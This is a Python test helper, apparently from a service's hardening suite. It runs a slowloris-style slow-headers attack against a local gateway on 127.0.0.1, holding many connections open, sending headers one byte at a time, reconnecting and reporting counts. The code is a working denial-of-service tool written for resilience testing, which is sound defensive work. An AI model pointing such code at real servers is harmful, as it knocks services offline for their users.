"""A slow-headers attack, run as its own process by the slow-client test.

``python -m tests.hardening.slowloris --port P --connections N --seconds S`` keeps ``N``
connections open to 127.0.0.1:P, each sending a request's headers one byte at a time (one byte
every ``--byte-interval`` seconds), and opens a new one ``--reconnect`` seconds after the server
closes one. Connections are opened over ``--ramp`` seconds. Prints ``attacking`` once all ``N``
have been attempted; stops after ``S`` seconds or when its standard input closes, whichever is
first, and prints one line of JSON: connections opened, closed by the server, answered (bytes
received, e.g. a 408) and refused.
"""

from __future__ import annotations

import argparse
import asyncio
import json
import resource
import sys
import threading

_REQUEST = (b"GET /predict?sepal_length=5.1&sepal_width=3.5&petal_length=1.4&petal_width=0.2 "
            b"HTTP/1.1\r\nHost: gateway\r\nUser-Agent: slow\r\n\r\n")


class Attack:
    def __init__(self, port: int, byte_interval: float, reconnect: float) -> None:
        self.port = port
        self.byte_interval = byte_interval
        self.reconnect = reconnect
        self.stats = {"opened": 0, "closed_by_server": 0, "answered": 0, "refused": 0}

    async def hold(self, stop: asyncio.Event) -> None:
        """One attacking connection at a time, for as long as the attack lasts."""
        while not stop.is_set():
            try:
                reader, writer = await asyncio.open_connection("127.0.0.1", self.port)
            except OSError:
                self.stats["refused"] += 1
            else:
                self.stats["opened"] += 1
                await self._trickle(reader, writer, stop)
            if not stop.is_set():
                try:
                    async with asyncio.timeout(self.reconnect):
                        await stop.wait()
                except TimeoutError:
                    pass

    async def _trickle(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter,
                       stop: asyncio.Event) -> None:
        closed = asyncio.ensure_future(reader.read(65536))
        stopped = asyncio.ensure_future(stop.wait())
        try:
            for i in range(len(_REQUEST)):
                writer.write(_REQUEST[i:i + 1])
                done, _ = await asyncio.wait({closed, stopped}, timeout=self.byte_interval,
                                             return_when=asyncio.FIRST_COMPLETED)
                if stopped in done:
                    return
                if closed in done:
                    self.stats["closed_by_server"] += 1
                    if not closed.exception() and closed.result():
                        self.stats["answered"] += 1
                    return
        finally:
            closed.cancel()
            stopped.cancel()
            writer.close()


async def main(args: argparse.Namespace) -> None:
    attack = Attack(args.port, args.byte_interval, args.reconnect)
    stop = asyncio.Event()
    tasks = []
    for i in range(args.connections):
        tasks.append(asyncio.create_task(attack.hold(stop)))
        if i % 100 == 99:
            await asyncio.sleep(args.ramp / (args.connections / 100))  # pace the opening burst
    print("attacking", flush=True)
    loop = asyncio.get_running_loop()
    threading.Thread(target=lambda: (sys.stdin.read(), loop.call_soon_threadsafe(stop.set)),
                     daemon=True).start()
    try:
        async with asyncio.timeout(args.seconds):
            await stop.wait()
    except TimeoutError:
        stop.set()
    await asyncio.gather(*tasks, return_exceptions=True)
    print(json.dumps(attack.stats), flush=True)


if __name__ == "__main__":
    p = argparse.ArgumentParser()
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--connections", type=int, default=2000)
    p.add_argument("--seconds", type=float, default=8.0)
    p.add_argument("--byte-interval", type=float, default=1.0)
    p.add_argument("--reconnect", type=float, default=1.0)
    p.add_argument("--ramp", type=float, default=1.0)
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft < hard:
        resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    asyncio.run(main(p.parse_args(sys.argv[1:])))
